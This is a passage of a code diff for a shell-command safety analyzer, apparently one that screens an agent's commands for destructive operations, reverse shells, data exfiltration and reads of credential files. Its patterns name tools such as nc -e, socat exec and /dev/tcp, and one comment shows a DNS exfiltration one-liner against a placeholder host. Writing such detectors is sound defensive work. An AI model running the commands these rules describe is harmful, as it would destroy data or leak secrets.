+    else if (text.startsWith('-') || text.startsWith('+')) i++;
+    else break;
+  }
+  const file = args[i];
+  if (file) {
+    if (file.opaque || file.dynamic)
+      opaque(walk, file.opaque ?? `${name} runs a script whose path is unknown`);
+    return interactive ? { shell: true } : { unknown: `the output of ${name}` };
+  }
+  if (stdin) judgeStdinScript(stdin, walk, name);
+  return { shell: true };
+}
+
+function judgeInterpreter(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  const language = languageOf(name);
+  const flag = args.findIndex(
+    (w) =>
+      /^(?:-c|-e|-E|-r|-p|--eval|--print|-ne|-pe|-le|-lne)$/.test(w.text) ||
+      (name === 'deno' && w.text === 'eval'),
+  );
+  if (flag >= 0) {
+    const code = args[flag + 1];
+    if (code) runInlineCode(code, language, walk);
+    return { unknown: `the output of ${name}` };
+  }
+  const script = args.find((a) => !a.text.startsWith('-'));
+  if (script && script.text !== '-') {
+    if (script.opaque || (script.dynamic && script.text === ''))
+      opaque(walk, script.opaque ?? `${name} runs a script whose path is unknown`);
+    return { unknown: `the output of ${name}` };
+  }
+  if (stdin?.literal !== undefined) runInlineCode({ text: stdin.literal, dynamic: false }, language, walk);
+  else if (stdin?.socket) reverseShell(walk, `${name} runs what ${stdin.socket} receives`);
+  else if (stdin?.fetched) judgeStdinScript(stdin, walk, name);
+  else if (stdin?.unknown) opaque(walk, `${name} runs ${stdin.unknown}`);
+  return { unknown: `the output of ${name}` };
+}
+
+function runInlineCode(code: Field, language: ReturnType<typeof languageOf>, walk: Walk): void {
+  if (code.dynamic) opaque(walk, code.opaque ?? 'inline code built from unknown expansions');
+  const inner = child(walk);
+  if (!inner) return;
+  analyzeInlineCode(code.text, language, {
+    script(command) {
+      analyzeScript(command, inner);
+    },
+    argv(argv) {
+      judgeCommand(
+        argv.map((text) => ({ text, dynamic: false })),
+        inner,
+      );
+    },
+    recursiveDelete(path, how) {
+      if (wipeTarget({ text: path, dynamic: false }, walk.ctx)) {
+        destructive(walk, `${how} removes ${describeTarget(path)} recursively`, 'inline code');
+      }
+    },
+    path(text) {
+      judgePath(text, walk, false);
+    },
+    url(text) {
+      walk.findings.push(...analyzeUrl(text, walk.ctx.egress));
+    },
+    code(more) {
+      runInlineCode({ text: more, dynamic: false }, language, inner);
+    },
+    opaque(what) {
+      opaque(walk, what);
+    },
+    reverseShell(how) {
+      reverseShell(walk, how);
+    },
+    forkBomb() {
+      destructive(walk, 'fork bomb', 'inline code');
+    },
+  });
+}
+
+function judgeXargs(args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  const valued = new Set([
     '-I',
     '-i',
     '-n',
@@ -314,119 +1644,248 @@ const WRAPPERS: Record<string, Set<string>> = {
     '-a',
     '--max-args',
     '--delimiter',
-  ]),
-  watch: new Set(['-n', '-d']),
-  chroot: new Set(),
-  unbuffer: new Set(),
-  strace: new Set(['-o', '-e', '-p']),
-  ltrace: new Set(['-o', '-e']),
-  su: new Set(['-s', '-g']),
-  setsid: new Set(),
-  flock: new Set(['-w', '-E']),
-  caffeinate: new Set(),
-  fakeroot: new Set(),
-};
-/** Wrappers whose first operand is not the command (timeout's duration, chroot's root...). */
-const WRAPPER_OPERANDS: Record<string, number> = { timeout: 1, chroot: 1, flock: 1 };
-
-function baseName(word: string): string {
-  const slash = word.lastIndexOf('/');
-  return slash >= 0 ? word.slice(slash + 1) : word;
+    '--max-procs',
+    '--arg-file',
+    '--replace',
+    '--max-lines',
+    '--eof',
+  ]);
+  let i = 0;
+  let replace: string | undefined;
+  let delimiter: string | undefined;
+  while (i < args.length && args[i]!.text.startsWith('-')) {
+    const text = args[i]!.text;
+    if (text === '-I' || text === '--replace') replace = args[i + 1]?.text;
+    else if (text.startsWith('-I') && text.length > 2) replace = text.slice(2);
+    else if (text === '-i' || text === '--replace=') replace = '{}';
+    if (text === '-0' || text === '--null') delimiter = '\0';
+    if (text === '-d') delimiter = interpretEscapes(args[i + 1]?.text ?? '\n');
+    i += valued.has(text) ? 2 : 1;
+    if (text === '--') break;
+  }
+  const command = args.slice(i);
+  const argv = command.length > 0 ? command : [{ text: 'echo', dynamic: false }];
+  let items: Field[] = [];
+  if (stdin?.literal !== undefined) {
+    const parts = delimiter === undefined ? stdin.literal.split(/\s+/) : stdin.literal.split(delimiter);
+    items = parts
+      .filter((p) => p !== '')
+      .slice(0, MAX_ITEMS)
+      .map((text) => ({ text, dynamic: false, via: 'xargs input' }));
+  } else if (stdin?.found && !stdin.found.narrowed) {
+    items = stdin.found.roots.map((root) => ({ ...root, via: 'xargs input from find' }));
+  }
+  const inner = child(walk);
+  if (!inner) return undefined;
+  if (items.length === 0) {
+    judgeCommand(argv, inner);
+  } else if (replace !== undefined) {
+    for (const item of items) {
+      judgeCommand(
+        argv.map((a) =>
+          a.text.includes(replace!)
+            ? { ...a, text: a.text.split(replace!).join(item.text), via: item.via }
+            : a,
+        ),
+        inner,
+      );
+    }
+  } else {
+    judgeCommand([...argv, ...items], inner);
+  }
+  return { unknown: 'the output of xargs' };
 }
 
-function judgeCommand(words: ShWord[], walk: Walk, stdin?: string): void {
-  let argv = words;
-  for (let guard = 0; guard < 8 && argv.length > 0; guard++) {
-    const name = baseName(argv[0]!.text);
-    const options = WRAPPERS[name];
-    if (options === undefined) break;
-    if (name === 'su') {
-      const c = argv.findIndex((w) => w.text === '-c' || w.text === '--command');
-      const script = c >= 0 ? argv[c + 1] : undefined;
-      if (script) analyzeScript(script.text, walk);
-      return;
-    }
-    let i = 1;
-    let operands = WRAPPER_OPERANDS[name] ?? 0;
-    while (i < argv.length) {
-      const text = argv[i]!.text;
-      if (name === 'env' && /^[A-Za-z_][A-Za-z0-9_]*=/.test(text)) i++;
-      else if (text === '--') {
-        i++;
-        break;
-      } else if (text.startsWith('-') && text.length > 1) i += options.has(text) ? 2 : 1;
-      else if (operands > 0) {
-        operands--;
-        i++;
-      } else break;
-    }
-    argv = argv.slice(i);
+function judgeParallel(args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  const sep = args.findIndex((a) => a.text === ':::' || a.text === '::::');
+  const head = sep >= 0 ? args.slice(0, sep) : args;
+  let i = 0;
+  while (i < head.length && head[i]!.text.startsWith('-'))
+    i += /^-(?:j|P|S|--jobs|-joblog|-results)$/.test(head[i]!.text) ? 2 : 1;
+  const command = head.slice(i);
+  let items: Field[] = sep >= 0 ? args.slice(sep + 1).filter((a) => a.text !== ':::') : [];
+  if (items.length === 0 && stdin?.literal !== undefined) {
+    items = stdin.literal
+      .split('\n')
+      .filter((t) => t !== '')
+      .map((text) => ({ text, dynamic: false }));
   }
-  if (argv.length === 0) return;
-  const name = baseName(argv[0]!.text);
-  const args = argv.slice(1);
-  // A disk tool's device operand is judged as destruction below, not as a path read.
-  const deviceTool = /^(?:mkfs.*|mke2fs|mkswap|mkdosfs|dd|shred|wipefs|blkdiscard)$/.test(name);
-  judgePathsInArgs(deviceTool ? args.filter((a) => !isBlockDevice(a.text.replace(/^of=/, ''))) : args, walk);
-  if (SHELLS.has(name)) {
-    const c = args.findIndex((w) => /^-[a-z]*c[a-z]*$/.test(w.text));
-    if (c >= 0 && args[c + 1]) analyzeScript(args[c + 1]!.text, walk);
-    else if (args.length === 0 || args.every((w) => w.text.startsWith('-'))) {
-      if (stdin !== undefined) analyzeScript(stdin, walk);
-    }
-    return;
+  const inner = child(walk);
+  if (!inner) return undefined;
+  if (command.length === 0) {
+    for (const item of items.slice(0, MAX_ITEMS)) runScriptField(item, inner, 'parallel');
+    return undefined;
   }
-  if (name === 'eval') {
-    analyzeScript(args.map((w) => w.text).join(' '), walk);
-    return;
+  const script = joinFields(command);
+  for (const item of items.slice(0, MAX_ITEMS)) {
+    const line = script.includes('{}') ? script.split('{}').join(item.text) : `${script} ${item.text}`;
+    analyzeScript(line, inner);
   }
-  if (INTERPRETERS.has(name.replace(/[\d.]+$/, '')) || INTERPRETERS.has(name)) {
-    const flag = args.findIndex(
-      (w) => w.text === '-c' || w.text === '-e' || w.text === '-E' || w.text === '-r' || w.text === '--eval',
+  if (items.length === 0) judgeCommand(command, inner);
+  return undefined;
+}
+
+function judgeSshCommand(args: Field[], walk: Walk): void {
+  const valued = new Set([
+    '-p',
+    '-i',
+    '-l',
+    '-o',
+    '-F',
+    '-J',
+    '-L',
+    '-R',
+    '-D',
+    '-b',
+    '-c',
+    '-E',
+    '-e',
+    '-m',
+    '-O',
+    '-Q',
+    '-S',
+    '-W',
+    '-w',
+    '-B',
+    '-I',
+  ]);
+  let i = 0;
+  while (i < args.length && args[i]!.text.startsWith('-')) i += valued.has(args[i]!.text) ? 2 : 1;
+  const remote = args.slice(i + 1);
+  if (remote.length === 0) return;
+  const inner = child(walk);
+  if (inner)
+    runScriptField({ text: joinFields(remote), dynamic: remote.some((a) => a.dynamic) }, inner, 'ssh');
+}
+
+function judgeContainerTool(name: string, args: Field[], walk: Walk): Stream | undefined {
+  const result = judgeContainerRun(
+    args.map((a) => a.text),
+    walk.ctx.cwd,
+  );
+  if (result === undefined) return { unknown: `the output of ${name}` };
+  const inner = child(walk);
+  const before = walk.findings.length;
+  if (inner && result.command.length > 0) {
+    judgeCommand(
+      result.command.map((text) => ({
+        text,
+        dynamic: false,
+        ...(result.mapped ? { via: 'the container mounts' } : {}),
+      })),
+      inner,
     );
-    const code = flag >= 0 ? args[flag + 1]?.text : stdin;
-    if (code !== undefined) analyzeInlineCode(code, walk);
-    return;
   }
-  if (NETWORK_TOOLS.has(name)) judgeNetwork(name, args, walk);
-  switch (name) {
-    case 'rm':
-    case 'rmdir':
-    case 'unlink':
-      judgeRm(name, args, walk);
-      return;
-    case 'find':
-      judgeFind(args, walk);
-      return;
-    case 'dd':
-      for (const arg of args) {
-        if (arg.text.startsWith('of=') && isBlockDevice(arg.text.slice(3))) {
-          destructive(walk, 'dd writes over a block device', `command "dd"`);
-        }
-      }
-      return;
-    case 'shred':
-    case 'wipefs':
-    case 'blkdiscard':
-      if (args.some((a) => isBlockDevice(a.text)) || name !== 'shred') {
-        destructive(walk, `${name} destroys a block device`, `command "${name}"`);
-      }
-      return;
-    case 'chmod':
-    case 'chown':
-    case 'chgrp':
-      judgeRecursiveOwnership(name, args, walk);
-      return;
-    default:
-      if (/^mkfs(\.|$)|^mke2fs$|^mkswap$|^mkdosfs$/.test(name)) {
-        destructive(walk, `${name} formats a file system`, `command "${name}"`);
-      }
-  }
+  const wipes = walk.findings.slice(before).some((f) => f.code === 'DEST_MUTATION');
+  // What runs inside and wipes the host is the narrower fact; otherwise the exposure is.
+  if (!wipes)
+    for (const exposure of result.exposures) push(walk, 'FILESYSTEM_DENIED', exposure, `command "${name}"`);
+  return { unknown: `the output of ${name}` };
 }
 
-function destructive(walk: Walk, message: string, location: string): void {
-  walk.findings.push({ code: 'DEST_MUTATION', message, location });
+// ------------------------------------------------------------------------------ network
+
+/** The commands that made a stream, in pipeline order (`pg_dump prod | gzip`). */
+function producersOf(stream: Stream | undefined): { name: string; args: string[] }[] | undefined {
+  const steps: { name: string; args: string[] }[] = [];
+  for (let at = stream; at?.producer !== undefined && steps.length < 8; at = at.producer.stdin) {
+    const words = at.producer.words;
+    if (words[0])
+      steps.unshift({ name: baseName(words[0].text), args: words.slice(1, 33).map((w) => w.text) });
+  }
+  return steps.length > 0 ? steps : undefined;
 }
+
+/** Every host the arguments name is trusted by the account (and there is at least one). */
+function sendsOnlyToTrusted(texts: readonly string[], egress: EgressSettings): boolean {
+  const hosts = texts
+    .filter((t) => !t.startsWith('-'))
+    .map((t) => hostOf(/^[a-z][a-z0-9+.-]*:\/\//i.test(t) ? t : `https://${t.replace(/^[^@/]*@/, '')}`))
+    .filter((h): h is string => h?.includes('.') === true);
+  return hosts.length > 0 && hosts.every((h) => isTrustedHost(h, egress));
+}
+
+function judgeNetwork(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
+  const texts = args.map((a) => a.text);
+  if (
+    (/^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(name) &&
+      texts.some(
+        (t) =>
+          /^(?:-e|-c|--exec|--sh-exec|--lua-exec)$/.test(t) ||
+          (/^-[a-zA-Z]*e$/.test(t) && t !== '-e' && /^-[lvnpuz]*e$/.test(t)),
+      )) ||
+    (name === 'socat' && texts.some((t) => /^(?:exec|system):/i.test(t) || /,\s*(?:exec|system):/i.test(t)))
+  ) {
+    reverseShell(walk, `${name} runs a program for the other end`);
+  }
+  const sensitive = stdin?.sensitive ?? args.find((a) => a.sensitive)?.sensitive;
+  if (sensitive !== undefined && !sendsOnlyToTrusted(texts, walk.ctx.egress)) {
+    push(
+      walk,
+      'EXFILTRATION_BLOCKED',
+      `${name} sends ${sensitive} to a destination the account does not trust`,
+      `command "${name}"`,
+    );
+  }
+  if (stdin?.shell && /^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(name)) {
+    reverseShell(walk, `an interactive shell is piped into ${name}`);
+  }
+  const words: ToolWord[] = args.map((a) => ({
+    text: a.text,
+    dynamic: a.dynamic,
+    ...(a.reads ? { reads: a.reads } : {}),
+    ...(a.from ? { from: a.from } : {}),
+  }));
+  const input: ToolInput | undefined = stdin
+    ? {
+        ...(stdin.literal !== undefined ? { literal: stdin.literal } : {}),
+        files: stdin.files ?? [],
+        ...(producersOf(stdin) ? { from: producersOf(stdin)! } : {}),
+      }
+    : undefined;
+  walk.findings.push(...judgeNetworkCommand(name, words, input, walk.ctx));
+  for (const arg of args) {
+    // `dig $(cat .env | base64).x.example`: a name built from a file's contents leaks it.
+    if (arg.reads && arg.reads.length > 0 && /^(?:dig|nslookup|host|ping|curl|wget|nc|ncat)$/.test(name)) {
+      push(
+        walk,
+        'EXFILTRATION_BLOCKED',
+        `${name} sends data read from ${describeTarget(arg.reads.join(' '))} in a name or address`,
+        `command "${name}"`,
+      );
+      break;
+    }
+  }
+  if (
+    name === 'curl' ||
+    name === 'wget' ||
+    name === 'http' ||
+    name === 'https' ||
+    name === 'xh' ||
+    name === 'aria2c'
+  ) {
+    const url =
+      texts.find((t) => /^[a-z][a-z0-9+.-]*:\/\//i.test(t)) ??
+      texts.find((t) => /^[\w.-]+\.[a-z]{2,}(?:[:/]|$)/i.test(t));
+    const fetched =
+      url === undefined
+        ? { tool: name }
+        : { tool: name, url: /^[a-z][a-z0-9+.-]*:\/\//i.test(url) ? url : `https://${url}` };
+    return { fetched };
+  }
+  if (name === 'dig' || name === 'nslookup' || name === 'host') {
+    return {
+      fetched: {
+        tool: name,
+        host:
+          texts.find((t) => t.includes('.') && !t.startsWith('-') && !t.startsWith('@')) ?? 'a DNS answer',
+      },
+    };
+  }
+  return { socket: name };
+}
+
+// ------------------------------------------------------------------------------ file system
 
 function isBlockDevice(path: string): boolean {
   return /^\/dev\/(sd|hd|vd|xvd|nvme|mmcblk|disk|mapper\/|md\d|dm-|loop|sr|fd\d|rdisk)/.test(path);
@@ -436,27 +1895,23 @@ function isRecursiveFlag(text: string): boolean {
   return text === '--recursive' || (/^-[A-Za-z]+$/.test(text) && /[rR]/.test(text));
 }
 
-/** Working-tree wipes: the current directory, its parent, or everything in them. */
-function isWorkingTreeWipe(target: string): boolean {
-  return /^(\.\/?|\.\.\/?|\*|\.\*|\.\/\*|\.\/\.\*|\.\.\/\*|\*\s*\.\*)$/.test(target);
-}
-
-function wipeTarget(word: ShWord, ctx: ShellContext): boolean {
-  let target = word.text.trim();
+function wipeTarget(word: Field, ctx: ShellContext): boolean {
+  const target = word.text.trim();
   if (target === '') return false;
-  if (isWorkingTreeWipe(target)) return true;
-  // `$UNSET/` expands to `/`: a variable we cannot see is assumed empty.
-  if (word.dynamic && /^\$[A-Za-z_]\w*\/\*?$/.test(target)) return true;
-  target = target.replace(/\/\*$/, '/').replace(/\/\.\*$/, '/');
   if (target === '~' || target === '~/' || (target.startsWith('~') && !target.includes('/', 1))) return true;
-  if (word.dynamic && target.startsWith('$')) return false;
-  if (!target.startsWith('/') && !target.startsWith('~')) return false;
-  return isCatastrophicDeleteTarget(normalizePath(target, ctx.paths), ctx.paths);
+  // A glob removes what the directory before it holds: `/*`, `~/.*`, `*` in the working tree.
+  const normalized = normalizePath(target, ctx.cwd);
+  const parts = normalized.split('/');
+  const glob = parts.findIndex((part) => /[*?[]/.test(part));
+  const removed = glob < 0 ? normalized : parts.slice(0, glob).join('/') || '/';
+  // A relative path lands in the working directory, which is itself a wipe target, as is every parent.
+  return isCatastrophicDeleteTarget(removed, ctx.paths);
 }
 
-function judgeRm(name: string, args: ShWord[], walk: Walk): void {
+function judgeRm(name: string, args: Field[], walk: Walk): void {
+  // rmdir removes only empty directories, but `rmdir -p` and rimraf take a whole tree.
   let recursive = name !== 'rm';
-  const targets: ShWord[] = [];
+  const targets: Field[] = [];
   let options = true;
   for (const arg of args) {
     if (options && arg.text === '--') options = false;
@@ -470,11 +1925,43 @@ function judgeRm(name: string, args: ShWord[], walk: Walk): void {
       destructive(walk, `recursive ${name} of ${describeTarget(target.text)}`, `command "${name}"`);
       return;
     }
+    if (/(?:^|\/)\.git\/?$/.test(target.text) && name === 'rm') {
+      destructive(
+        walk,
+        `recursive rm of a repository's history (${describeTarget(target.text)})`,
+        'command "rm"',
+      );
+      return;
+    }
   }
 }
 
-function describeTarget(target: string): string {
-  return target.length > 60 ? `${target.slice(0, 57)}...` : target;
+/** `mv / …`, `mv ~ /dev/null`: moving the root, a home or a system directory away. */
+function judgeMove(args: Field[], walk: Walk): void {
+  const operands = args.filter((a) => !a.text.startsWith('-'));
+  for (const source of operands.slice(0, -1)) {
+    const normalized = normalizePath(source.text, walk.ctx.cwd);
+    const parts = normalized.split('/').filter((p) => p !== '');
+    if (
+      source.text.trim() !== '' &&
+      parts.length <= 2 &&
+      isCatastrophicDeleteTarget(normalized, walk.ctx.paths)
+    ) {
+      destructive(walk, `mv takes ${describeTarget(normalized)} away`, 'command "mv"');
+      return;
+    }
+  }
+}
+
+/** `rsync --delete empty/ /`: mirrors nothing onto a root, deleting everything there. */
+function judgeRsyncDelete(args: Field[], walk: Walk): void {
+  if (!args.some((a) => a.text.startsWith('--delete') || a.text === '--remove-source-files')) return;
+  const operands = args.filter((a) => !a.text.startsWith('-'));
+  const destination = operands[operands.length - 1];
+  if (!destination || operands.length < 2 || /^[^/]*:/.test(destination.text)) return;
+  if (wipeTarget(destination, walk.ctx)) {
+    destructive(walk, `rsync --delete empties ${describeTarget(destination.text)}`, 'command "rsync"');
+  }
 }
 
 const FIND_NARROWING = new Set([
@@ -505,10 +1992,11 @@ const FIND_NARROWING = new Set([
   '-gid',
   '-lname',
   '-ilname',
+  '-newermt',
 ]);
 
-function judgeFind(args: ShWord[], walk: Walk): void {
-  const roots: ShWord[] = [];
+function judgeFind(args: Field[], walk: Walk): Stream {
+  const roots: Field[] = [];
   let i = 0;
   while (i < args.length && /^-[HLP]$/.test(args[i]!.text)) i++;
   while (
@@ -520,22 +2008,42 @@ function judgeFind(args: ShWord[], walk: Walk): void {
     roots.push(args[i]!);
     i++;
   }
-  const rest = args.slice(i).map((w) => w.text);
-  const deletes =
-    rest.includes('-delete') ||
-    rest.some(
-      (t, k) =>
-        (t === '-exec' || t === '-execdir' || t === '-ok') &&
-        /^(rm|shred|unlink)$/.test(baseName(rest[k + 1] ?? '')),
-    );
-  if (!deletes || rest.some((t) => FIND_NARROWING.has(t))) return;
+  const rest = args.slice(i);
+  const texts = rest.map((w) => w.text);
+  // `-name '*'` matches everything: it narrows nothing.
+  const narrowed = texts.some((t, k) => FIND_NARROWING.has(t) && !/^\*+$/.test(texts[k + 1] ?? ''));
   const effectiveRoots = roots.length === 0 ? [{ text: '.', dynamic: false }] : roots;
-  if (effectiveRoots.some((root) => wipeTarget(root, walk.ctx))) {
+  const wipesRoot = effectiveRoots.some((root) => wipeTarget(root, walk.ctx));
+  const execDeletes = texts.some(
+    (t, k) =>
+      /^-(?:exec|execdir|ok|okdir)$/.test(t) && /^(?:rm|shred|unlink)$/.test(baseName(texts[k + 1] ?? '')),
+  );
+  if ((texts.includes('-delete') || execDeletes) && !narrowed && wipesRoot) {
     destructive(walk, 'find deletes everything under a root, home or system directory', 'command "find"');
   }
+  // -exec / -execdir / -ok / -okdir run a command per match: judge it with the roots as matches.
+  for (let k = 0; k < texts.length; k++) {
+    if (!/^-(?:exec|execdir|ok|okdir)$/.test(texts[k]!)) continue;
+    let end = k + 1;
+    while (end < texts.length && texts[end] !== ';' && texts[end] !== '+') end++;
+    const command = rest.slice(k + 1, end);
+    const inner = child(walk);
+    if (!inner || command.length === 0) continue;
+    const matches = narrowed ? [{ text: 'matched-file', dynamic: false }] : effectiveRoots;
+    for (const match of matches.slice(0, MAX_ITEMS)) {
+      judgeCommand(
+        command.map((a) =>
+          a.text.includes('{}') ? { ...a, text: a.text.split('{}').join(match.text), via: 'find -exec' } : a,
+        ),
+        inner,
+      );
+    }
+    k = end;
+  }
+  return { found: { roots: effectiveRoots, narrowed } };
 }
 
-function judgeRecursiveOwnership(name: string, args: ShWord[], walk: Walk): void {
+function judgeRecursiveOwnership(name: string, args: Field[], walk: Walk): void {
   if (
     !args.some((a) => isRecursiveFlag(a.text) && !/[^-rRvfchHLP]/.test(a.text.replace('--recursive', '-R')))
   )
@@ -544,7 +2052,7 @@ function judgeRecursiveOwnership(name: string, args: ShWord[], walk: Walk): void
   for (const target of operands.slice(1)) {
     const text = target.text.replace(/\/\*$/, '/');
     if (!text.startsWith('/')) continue;
-    const normalized = normalizePath(text, walk.ctx.paths);
+    const normalized = normalizePath(text, walk.ctx.cwd);
     const parts = normalized.split('/').filter((p) => p !== '');
     if (
       parts.length === 0 ||
@@ -556,48 +2064,67 @@ function judgeRecursiveOwnership(name: string, args: ShWord[], walk: Walk): void
   }
 }
 
-function judgeRedirect(redirect: Redirect, walk: Walk): void {
-  if (redirect.kind === 'heredoc') return;
-  const target = redirect.target;
-  if (redirect.kind === 'out' && isBlockDevice(target)) {
+function judgeRedirect(kind: 'out' | 'in', target: string, walk: Walk): void {
+  if (kind === 'out' && isBlockDevice(target)) {
     destructive(walk, 'redirection overwrites a block device', `path ${describeTarget(target)}`);
     return;
   }
   const tcp = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(target);
   if (tcp) {
-    walk.findings.push(...analyzeHost(tcp[2]!, walk.ctx.egress));
+    const host = tcp[2]!;
+    if (!isTrustedHost(host, walk.ctx.egress))
+      reverseShell(walk, `a raw ${tcp[1]} connection to ${describeTarget(host)}`);
+    walk.findings.push(...analyzeHost(host, walk.ctx.egress));
     return;
   }
-  judgePath(target, walk, redirect.kind === 'out');
+  judgePath(target, walk, kind === 'out');
 }
 
 function judgePath(text: string, walk: Walk, writes: boolean): void {
   if (text === '' || text.length > 4096) return;
+  // `/dev/tcp/host/port` is a socket, judged as a destination where it is redirected to.
+  if (/^\/dev\/(?:tcp|udp)\//.test(text)) return;
   // Bare words stay inside the working directory, whose own path is judged once up front.
-  if (!/^[~/.]|^\$\{?HOME|\/|\.ssh/.test(text)) return;
-  const normalized = normalizePath(text, walk.ctx.paths);
-  const cls = classifyPath(normalized);
+  if (!/^[~/.]|^\$\{?HOME|\/|\\|\.ssh|^[A-Za-z]:|^%|[／＼]/.test(text)) return;
+  const normalized = normalizePath(text, walk.ctx.cwd);
+  const cls = classifyPath(normalized) ?? credentialDirectory(normalized);
   // Commands that merely read system trees (/etc, /boot, /dev, /proc, /sys) are refused
   // like fs.read: an agent has no task there that a human should not look at first.
   if (cls !== null) {
-    walk.findings.push({
-      code: 'FILESYSTEM_DENIED',
-      message: `${writes ? 'writes to' : 'touches'} a ${cls === 'secret' ? 'credential or identity file' : 'protected system path'}`,
-      location: `path ${describeTarget(normalized)}`,
-    });
+    push(
+      walk,
+      'FILESYSTEM_DENIED',
+      `${writes ? 'writes to' : 'touches'} a ${cls === 'secret' ? 'credential or identity file' : 'protected system path'}`,
+      `path ${describeTarget(normalized)}`,
+    );
   }
+}
+
+/** A directory whose files are credentials (`~/.aws`, `~/.kube`): reading it reads them. */
+function credentialDirectory(normalized: string): 'secret' | null {
+  const dir = normalized.replace(/\/+$/, '');
+  for (const file of ['credentials', 'config', 'config.json']) {
+    if (classifyPath(`${dir}/${file}`) === 'secret') return 'secret';
+  }
+  return null;
 }
 
 // Absolute or home paths embedded in a larger word: inline code of any interpreter
 // (`lua -e 'io.open("/etc/x")'`), response files (`@/etc/x`), `VAR=/etc/x`.
 const EMBEDDED_PATH = /(?:^|[\s"'(<=@:,])((?:~|\$HOME)?\/[^\s"'();<>|&,]{1,1024})/g;
 
-function judgePathsInArgs(args: ShWord[], walk: Walk): void {
-  for (const arg of args) judgePathsInText(arg.text, walk);
+function judgePathsInArgs(args: Field[], walk: Walk): void {
+  for (const arg of args) {
+    judgePathsInText(arg.text, walk);
+    for (const file of arg.reads ?? []) judgePath(file, walk, false);
+  }
 }
 
 function judgePathsInText(text: string, walk: Walk): void {
   if (text.length > PARSE_LIMIT) return;
+  // `unix:///run/docker.sock`: a socket named as a URL is a path.
+  const socket = /^unix:\/\/(\/.*)$/.exec(text);
+  if (socket) judgePath(socket[1]!, walk, false);
   if (!text.includes('://')) judgePath(text.startsWith('@') ? text.slice(1) : text, walk, false);
   if (!text.includes('/', 1)) return;
   for (const match of text.matchAll(EMBEDDED_PATH)) {
@@ -607,77 +2134,19 @@ function judgePathsInText(text: string, walk: Walk): void {
   }
 }
 
-const HOST_LIKE =
-  /^(?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?(?:\/|$)|^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:\/|$)|^\[[0-9a-f:.]+\]/i;
-
-function judgeNetwork(name: string, args: ShWord[], walk: Walk): void {
-  for (const arg of args) {
-    const text = arg.text;
-    if (text.startsWith('-') && !text.includes('://')) continue;
-    const urlAt = text.indexOf('://');
-    if (urlAt > 0) {
-      const start = text.slice(0, urlAt).search(/[A-Za-z][A-Za-z0-9+.-]*$/);
-      walk.findings.push(...analyzeUrl(text.slice(start), walk.ctx.egress));
-      continue;
-    }
-    const remote = /^(?:[^@\s/]+@)?([^:/\s]+):/.exec(text);
-    if ((name === 'scp' || name === 'rsync' || name === 'sftp') && remote && remote[1]!.includes('.')) {
-      walk.findings.push(...analyzeHost(remote[1]!, walk.ctx.egress));
-      continue;
-    }
-    const bare = text.replace(/^[^@\s/]+@/, '');
-    if (HOST_LIKE.test(bare)) {
-      const host = bare.startsWith('[') ? bare.slice(0, bare.indexOf(']') + 1) : bare.split(/[:/]/)[0]!;
-      walk.findings.push(...analyzeHost(host, walk.ctx.egress));
-    }
-  }
-}
-
-// ---------------------------------------------------------------- inline interpreter code
-
-const RECURSIVE_DELETE_CALL =
-  /\b(?:rmtree|rm_rf|rm_r|remove_dir_all|rmSync|rmdirSync|remove_tree|rimraf(?:\.sync)?|rmdir)\s*\(\s*(?:(?:os\.path\.expanduser|File\.expand_path|path\.resolve)\s*\(\s*)?(['"])([^'"]*)\1/g;
-const SHELL_OUT_CALL =
-  /\b(?:system|exec|execSync|spawnSync|popen|check_call|check_output|run|call|Popen|getoutput|getstatusoutput|shell_exec|passthru)\s*\(\s*(['"`])([^'"`]*)\1/g;
-const BACKTICK_CALL = /`([^`]*)`/g;
-const URL_IN_CODE = /\b[a-z][a-z0-9+.-]*:\/\/[^\s'"`)]+/gi;
-
-function analyzeInlineCode(code: string, walk: Walk): void {
-  if (code.length > PARSE_LIMIT) return;
-  for (const match of code.matchAll(RECURSIVE_DELETE_CALL)) {
-    const target = match[2] ?? '';
-    if (wipeTarget({ text: target === '' ? '.' : target, dynamic: false }, walk.ctx)) {
-      destructive(walk, `inline code removes ${describeTarget(target || '.')} recursively`, 'inline code');
-      return;
-    }
-  }
-  for (const match of code.matchAll(SHELL_OUT_CALL)) analyzeScript(match[2] ?? '', walk);
-  for (const match of code.matchAll(BACKTICK_CALL)) analyzeScript(match[1] ?? '', walk);
-  if (
-    /\bfork\b[^;]*\bwhile\b[^;]*\bfork\b|\bwhile\s*\(?\s*(?:1|true|True)\s*\)?\s*:?\s*(?:os\.)?fork\(\)/.test(
-      code,
-    )
-  ) {
-    destructive(walk, 'fork bomb', 'inline code');
-  }
-  for (const match of code.matchAll(URL_IN_CODE))
-    walk.findings.push(...analyzeUrl(match[0], walk.ctx.egress));
-  for (const match of code.matchAll(/(['"])([^'"]*)\1/g)) judgePath(match[2] ?? '', walk, false);
-}
-
 // ---------------------------------------------------------------- entry points
 
 function analyzeScript(script: string, walk: Walk): void {
-  if (walk.depth >= MAX_DEPTH || script.trim() === '') return;
-  const inner: Walk = { ...walk, depth: walk.depth + 1 };
-  parseAndWalk(script, inner);
+  if (script.trim() === '') return;
+  const inner = child(walk);
+  if (inner) parseAndWalk(script, inner);
 }
 
 /**
  * Scripts made only of words, plain quotes and `|`/`&`/`;` lists have one reading under
  * any shell grammar, so the linear splitter gives the same commands as the parser at a
  * fraction of the cost. Anything with expansions, redirections, grouping, escapes or
- * comments goes to mvdan/sh.
+ * comments goes to mvdan/sh (or the simple reader, which resolves the same way).
  */
 const TRIVIAL_SCRIPT = /^[^$`\\(){}<>#\n\r!]*$/;
 
@@ -686,12 +2155,13 @@ function parseAndWalk(script: string, walk: Walk, fastPaths = true): void {
     walkSplit(script, walk);
     return;
   }
-  if (script.length <= PARSE_LIMIT) {
+  if (script.length <= PARSE_LIMIT && walk.budget.parsed + script.length <= PARSE_BUDGET) {
     const simple = fastPaths ? readSimpleScript(script) : undefined;
     if (simple !== undefined) {
       walkSimple(simple, walk);
       return;
     }
+    walk.budget.parsed += script.length;
     let file: ShNode | undefined;
     try {
       file = parser.Parse(script, '');
@@ -699,23 +2169,36 @@ function parseAndWalk(script: string, walk: Walk, fastPaths = true): void {
       file = undefined;
